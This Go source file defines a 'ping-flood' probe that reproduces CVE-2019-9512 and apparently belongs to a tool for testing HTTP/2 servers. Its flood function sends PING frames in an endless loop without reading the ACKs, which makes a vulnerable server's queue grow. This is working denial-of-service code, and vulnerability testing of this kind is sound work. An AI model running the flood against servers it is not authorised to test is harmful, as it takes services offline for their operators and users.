package probe

import "encoding/binary"

// pingFlood reproduces CVE-2019-9512: PINGs as fast as the connection takes them, never
// reading the ACKs, so a server that queues one ACK per PING grows its queue.
var pingFlood = Probe{
	Name: "ping-flood",
	CVE:  "CVE-2019-9512",
	flood: func(a *abuser) error {
		var data [8]byte
		for i := uint64(1); ; i++ {
			binary.BigEndian.PutUint64(data[:], i)
			if err := a.ping(data); err != nil {
				return err
			}
		}
	},
}
